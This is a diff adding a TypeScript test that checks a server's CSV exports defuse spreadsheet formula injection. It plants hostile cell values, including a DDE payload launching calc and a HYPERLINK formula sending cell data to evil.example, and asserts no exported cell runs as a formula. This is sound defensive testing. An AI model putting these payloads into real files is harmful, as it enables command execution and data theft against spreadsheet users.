@@ -1,0 +1,109 @@
+/** Texts that a spreadsheet would run, through every export of the compiled program, read with every separator that a spreadsheet may use. */
+import { afterAll, beforeAll, expect, test } from "bun:test";
+import { ensureBinary, type RunningBinary, runBinary, startServe } from "../support/binary.ts";
+import { temporaryFolder } from "../support/temporary-folder.ts";
+
+const folder = temporaryFolder();
+let server: RunningBinary;
+let signed: Record<string, string>;
+
+/** Every route that answers CSV: a new one is red until it stands here. */
+const EXPORTS = ["/api/v1/platform/audit/export"];
+const HARM = "cmd|' /C calc'!A0";
+const FORMULAS = [
+  ...["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "'=", '"='].map((start) => `${start}${HARM}`),
+  ...[
+    `x;=${HARM}`,
+    `x,=${HARM}`,
+    `x;"=${HARM}`,
+    `x, +${HARM}`,
+    `=HYPERLINK("http://evil.example/?"&A1,"more")`,
+    `x;@SUM(A1)`,
+    `x;;-${HARM}`,
+  ],
+  `@SUM(1+1)*${HARM}`,
+];
+
+beforeAll(async () => {
+  await ensureBinary();
+  server = await startServe(folder.path);
+  const made = await runBinary(["token", "add", "--name", "t", "--role", "admin", "--data", folder.path]);
+  signed = { authorization: `Bearer ${made.stdout.trim()}` };
+  for (const [index, text] of FORMULAS.entries()) {
+    const add = (path: string, body: unknown) =>
+      fetch(server.url + path, {
+        method: "POST",
+        headers: { ...signed, "content-type": "application/json" },
+        body: JSON.stringify(body),
+      });
+    const target = { name: text, project: text, host: "127.0.0.1", port: index + 1, login: text, isEnabled: false };
+    expect([text, (await add("/api/v1/cccp/servers", target)).status]).toEqual([text, 201]);
+    const token = { name: `${text.slice(0, 55)} ${index}`, role: "viewer", expiresAt: null };
+    expect([text, (await add("/api/v1/platform/tokens", token)).status]).toEqual([text, 201]);
+  }
+});
+afterAll(async () => {
+  await server.stop("SIGKILL");
+  folder.remove();
+});
+
+/** Cells as a spreadsheet takes them: quotes count at the beginning of a cell, elsewhere they are letters. */
+function cellsOf(text: string, separator: string): string[] {
+  const cells: string[] = [];
+  let cell = "";
+  let isQuoted = false;
+  let isAtStart = true;
+  for (let at = 0; at < text.length; at++) {
+    const letter = text[at] as string;
+    if (isQuoted) {
+      if (letter !== '"') cell += letter;
+      else if (text[at + 1] === '"') cell += text[++at];
+      else isQuoted = false;
+    } else if (isAtStart && letter === '"') {
+      isQuoted = true;
+      isAtStart = false;
+    } else if (letter === separator || letter === "\n" || letter === "\r") {
+      cells.push(cell);
+      cell = "";
+      isAtStart = true;
+    } else {
+      cell += letter;
+      isAtStart = false;
+    }
+  }
+  return [...cells, cell];
+}
+
+/** Cells that a spreadsheet would run; a negative number is none. */
+function formulasIn(text: string): string[] {
+  return [",", ";", "\t"].flatMap((separator) =>
+    cellsOf(text.replace(/^\ufeff/, ""), separator).filter(
+      (cell) => /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-?\d+$/.test(cell),
+    ),
+  );
+}
+
+test("the exports are all of them", async () => {
+  const document = await (await fetch(`${server.url}/api/docs/openapi.json`, { headers: signed })).json();
+  const { paths } = document as { paths: Record<string, unknown> };
+  expect(Object.keys(paths).filter((path) => JSON.stringify(paths[path]).includes("text/csv"))).toEqual(EXPORTS);
+});
+
+test.each(EXPORTS)("no cell of %s is a formula, whatever it is read with", async (path) => {
+  for (const query of ["", "?separator=;", "?mark=true", "?separator=;&mark=true"]) {
+    const text = await (await fetch(server.url + path + query, { headers: signed })).text();
+    expect(text).toContain("calc");
+    expect([query, formulasIn(text)]).toEqual([query, []]);
+    // Nothing is lost by it: each text is there, behind its apostrophe at most.
+    const cells = cellsOf(text, query.includes(";") ? ";" : ",")
+      .join("\n")
+      .replaceAll("'", "");
+    for (const formula of FORMULAS) expect(cells).toContain(formula.replaceAll("'", "").trim());
+  }
+});
+
+test("the control: as it was typed, each of them would run", () => {
+  for (const formula of FORMULAS.filter((text) => !text.startsWith("'"))) {
+    expect([formula, formulasIn(`1,2\r\n3,${formula}\r\n`).length > 0]).toEqual([formula, true]);
+  }
+});
